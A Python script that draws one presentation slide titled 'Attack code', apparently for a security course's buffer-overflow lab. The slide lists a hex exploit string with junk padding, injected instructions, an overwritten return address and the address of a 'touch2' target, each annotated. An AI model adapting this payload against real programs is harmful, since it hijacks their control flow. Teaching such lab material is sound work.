
from lxml.etree import SubElement
from pptx import Presentation
from pptx.dml.color import RGBColor
from pptx.enum.shapes import MSO_CONNECTOR, MSO_SHAPE
from pptx.enum.text import MSO_ANCHOR, MSO_AUTO_SIZE, PP_ALIGN
from pptx.oxml.ns import qn
from pptx.util import Pt

SCALE = 914400 / 100.8
FONT = "Noto Sans CJK SC"
COLORS = {"text": "000000", "line": "4472C4"}
JUNK = " ".join(["30"] * 8)
CODE = [JUNK] * 7 + [
    "98 bd 66 55 00 00 00 00",
    "bf d5 c2 6f 2d 48 83 c4",
    "10 c3 00 00 00 00 00 00",
    "c2 59 55 55 55 55 00 00",
]
BRACES = [(643, 175, 293), (637, 545, 75)]
ARROWS = [(646, 509), (637, 656)]
NOTES = [
    (702, 300, "Junk bytes to make buffer overflow"),
    (765, 487, "re-direct to our code"),
    (756, 634, "Address of touch2"),
    (702, 559, "Our code"),
]


def px(*vals):
    return [round(val * SCALE) for val in vals]


def apply(obj, form):
    for key, val in form.items():
        setattr(obj, key, val)


def fill_text(shape, lines, size, align=PP_ALIGN.LEFT):
    frame = shape.text_frame
    frame.text = "\n".join(lines)
    apply(frame, {
        "word_wrap": True,
        "auto_size": MSO_AUTO_SIZE.SHAPE_TO_FIT_TEXT,
        "vertical_anchor": MSO_ANCHOR.TOP,
    })
    for para in frame.paragraphs:
        apply(para, {"alignment": align, "line_spacing": Pt(size * 1.2)})
        for run in para.runs:
            apply(run.font, {"name": FONT, "size": Pt(size)})
            run.font.color.rgb = RGBColor.from_string(COLORS["text"])


def add_title(slide, text, box):
    title = slide.shapes.title
    apply(title, dict(zip(("left", "top", "width", "height"), px(*box))))
    fill_text(title, [text], 32)


def add_text(slide, lines, box, size, align=PP_ALIGN.LEFT):
    shape = slide.shapes.add_textbox(*px(*box))
    fill_text(shape, lines, size, align)


def style_line(line):
    line.color.rgb = RGBColor.from_string(COLORS["line"])
    line.width = Pt(0.5)


def add_brace(slide, left, top, height):
    brace = slide.shapes.add_shape(
        MSO_SHAPE.RIGHT_BRACE, *px(left, top, 18, height))
    brace.shadow.inherit = False
    brace.fill.background()
    style_line(brace.line)


def add_arrow(slide, tip, y):
    arrow = slide.shapes.add_connector(
        MSO_CONNECTOR.STRAIGHT, *px(tip + 103, y, tip, y))
    style_line(arrow.line)
    SubElement(arrow.line._get_or_add_ln(), qn("a:tailEnd"), type="triangle")
    SubElement(arrow._element.spPr, qn("a:effectLst"))


def main():
    deck = Presentation()
    deck.slide_width, deck.slide_height = px(1344, 756)
    slide = deck.slides.add_slide(deck.slide_layouts[5])
    add_title(slide, "Attack code", (79, 41, 445, 65))
    add_text(slide, CODE, (94, 152, 672, 532), 28, PP_ALIGN.CENTER)
    for brace in BRACES:
        add_brace(slide, *brace)
    for arrow in ARROWS:
        add_arrow(slide, *arrow)
    for left, top, text in NOTES:
        add_text(slide, [text], (left, top, 454, 44), 20)
    deck.save("out.pptx")


main()
